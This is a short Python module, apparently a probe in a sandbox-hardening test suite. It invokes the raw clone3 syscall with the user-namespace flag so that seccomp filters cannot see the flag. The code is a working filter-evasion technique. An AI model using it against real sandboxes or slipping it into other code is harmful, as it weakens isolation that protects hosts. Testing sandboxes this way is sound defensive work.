"""Make a user namespace by clone3."""

from __future__ import annotations

import ctypes
import platform

ORIGIN = "clone3 hides its flags from filters behind a pointer."
SEEN = "claimed"
SETTING = "user.max_user_namespaces"


def _call(x86_64, aarch64, *arguments):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    return libc.syscall(x86_64 if platform.machine() == "x86_64" else aarch64, *arguments)


def attack(target):
    arguments = (ctypes.c_uint64 * 11)()
    arguments[0], arguments[4] = 0x10000000, 17
    pid = _call(435, 435, arguments, 88)
    if pid == 0:
        ctypes.CDLL(None)._exit(0)
    return pid > 0
